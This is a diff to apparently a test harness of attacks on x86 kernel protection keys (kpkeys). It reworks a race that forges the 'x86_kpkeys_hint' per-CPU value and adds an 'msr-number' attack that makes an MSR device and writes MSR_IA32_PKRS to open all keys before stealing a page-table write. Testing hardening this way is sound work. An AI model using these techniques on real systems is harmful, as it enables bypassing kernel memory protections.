@@ -15,8 +15,13 @@
 
 #include <signal.h>
 #include <sched.h>
+#include <sys/ioctl.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <sys/timerfd.h>
+
+#include <misc/kpkeys_bench.h>
 
 /* Races: how often one is tried, by processes that do not survive if it is lost. */
 #define SECTION_TRIES	4
@@ -356,27 +361,28 @@ static int interrupted(void)
  * is in sections all the time, which then writes to a page table.
  */
 
-#define OPEN_TRIES	6	/* a process each that is stuck for ever */
-#define CLOSED_TRIES	24
+#define HINT_TRIES	24
 
 static int hint_cpu;
 
 /*
- * With page tables of its own: if a setter faults, this one never ends, and the
- * lock of its memory stays locked. Sections are short, so that there is much to
- * be hit between the last entry and the end.
+ * In no lock's range, lest others wait for ever if a setter faults, and each a short
+ * one, so that there is much to be hit between the last entry and the end.
  */
-static void sections(void)
+static int sections(void *arg)
 {
-	range = table_range(0);
-	*range = 1;
+	struct kpkeys_bench sections = {
+		.op = KPKEYS_BENCH_VMALLOC, .pages = 1, .iterations = 4,
+	};
+	int device = open("/dev/" KPKEYS_BENCH_DEVICE, O_RDWR | O_CLOEXEC);
+
 	run_on_cpu(hint_cpu);
-	while (hammering()) {
-		mprotect(range, PAGE_SIZE, PROT_READ);
+	do {
+		if (ioctl(device, KPKEYS_BENCH_RUN, &sections))
+			die("/dev/" KPKEYS_BENCH_DEVICE ": %s", strerror(errno));
 		++*(volatile u64 *)SECTIONS;
-		mprotect(range, PAGE_SIZE, PROT_READ | PROT_WRITE);
-	}
-	_exit(steal_as_helper(NULL));
+	} while (hammering());
+	return steal_as_helper(arg);
 }
 
 /* Gets the CPU from the process that is in sections. */
@@ -412,7 +418,7 @@ static bool forge_open(u64 hint, int try)
 	if (!other)
 		return false;
 	*(volatile u64 *)WRITE = 1;
-	return steal_with_helper_in(other, 1);
+	return steal_with_helper(other);
 }
 
 static int forge_hint(uint32_t value)
@@ -429,14 +435,12 @@ static int forge_hint(uint32_t value)
 	run_on_cpu(0);
 	hint = per_cpu(lookup("x86_kpkeys_hint"), hint_cpu);
 
-	for (tries = 0; tries < (value ? OPEN_TRIES : CLOSED_TRIES); tries++) {
+	for (tries = 0; tries < HINT_TRIES; tries++) {
 		pid_t busy;
 
 		*SECTIONS = *WRITE = 0;
 		*HAMMER = 1;
-		busy = fork();
-		if (!busy)
-			sections();
+		busy = start(sections, NULL);
 		while (!*(volatile u64 *)SECTIONS)
 			usleep(1000);
 		if (value) {
@@ -448,9 +452,8 @@ static int forge_hint(uint32_t value)
 			*(volatile u64 *)HAMMER = 0;
 			hammer_word(hint, 0, 30000000);
 		}
-		if (steal_with_helper_in(busy, 1))
+		if (steal_with_helper(busy))
 			return DONE;
-		kill(busy, SIGKILL);
 	}
 	return GAINED_NOTHING;
 }
@@ -502,6 +505,33 @@ static int cr4_copy(void)
 	return won ? DONE : GAINED_NOTHING;
 }
 
+#define MSR_IA32_PKRS	0x6e1
+#define MSR_MAJOR	202
+
+/*
+ * Many write MSRs whose numbers are in memory at some time, which the attacker could
+ * change: counters of perf, what is saved over a suspend, calls of another CPU. The
+ * device for root is one of them, and takes the number that it gets.
+ */
+static int msr_number(void)
+{
+	const u64 all_open = 0;
+	int device;
+
+	if (!on_arch("x86_64"))
+		return not_possible("the register has no number");
+	run_on_cpu(0);
+	if (mknod("/msr", S_IFCHR | 0600, makedev(MSR_MAJOR, 0)) && errno != EEXIST)
+		die("cannot make a device: %s", strerror(errno));
+	device = open("/msr", O_WRONLY | O_CLOEXEC);
+	if (device < 0)
+		die("MSRs of CPU 0: %s", strerror(errno));
+	/* It may fail: what counts is whether the register is open after that. */
+	if (pwrite(device, &all_open, sizeof(all_open), MSR_IA32_PKRS) < 0 && errno != EIO)
+		die("MSR 0x%x: %s", MSR_IA32_PKRS, strerror(errno));
+	return steal_by_write(own_page_slot());
+}
+
 const struct attack registers[] = {
 	{ "direct-write", "an entry of a page table", direct },
 	{ "reg-switched-out", "the register of a thread that sleeps", switched_out },
@@ -509,6 +539,7 @@ const struct attack registers[] = {
 	{ "lazy-pause-count", "lazy_mmu_state.pause_count, during a section", pause_count },
 	{ "reg-interrupted", "the register of a thread that is interrupted", interrupted },
 	{ "cr4-copy", "the copy of CR4: without pkeys", cr4_copy },
+	{ "msr-number", "the number of an MSR, and an entry of a page table", msr_number },
 	{ "reg-hint-open", "the note of the register's context: in a section", hint_open },
 	{ "reg-hint-closed", "the note of the register's context: in none", hint_closed },
 	{ }
